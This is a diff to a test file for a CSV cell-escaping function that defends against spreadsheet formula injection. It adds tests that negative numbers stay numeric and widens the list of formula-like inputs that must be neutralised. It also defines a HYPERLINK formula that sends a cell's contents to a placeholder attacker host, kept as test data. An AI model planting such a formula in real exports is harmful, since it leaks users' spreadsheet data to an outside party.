@@ -6,7 +6,11 @@ import { multiply, withShell } from "./store-shell.ts";
 
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
-test.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r\n=1"])(
+test("an amount stays a number, also one that is owed back", () => {
+  expect(["-12.5", "0.0007", "-3"].map(csvCell)).toEqual(['"-12.5"', '"0.0007"', '"-3"']);
+});
+
+test.each(["=1+1", "+1", "-1+1", "-A1", "-1e3", "@SUM(A1)", "\t=1", " =1", "\r\n=1"])(
   "a cell %j is text to a spreadsheet",
   (text) => {
     expect(csvCell(text)).toBe(`"'${text}"`);
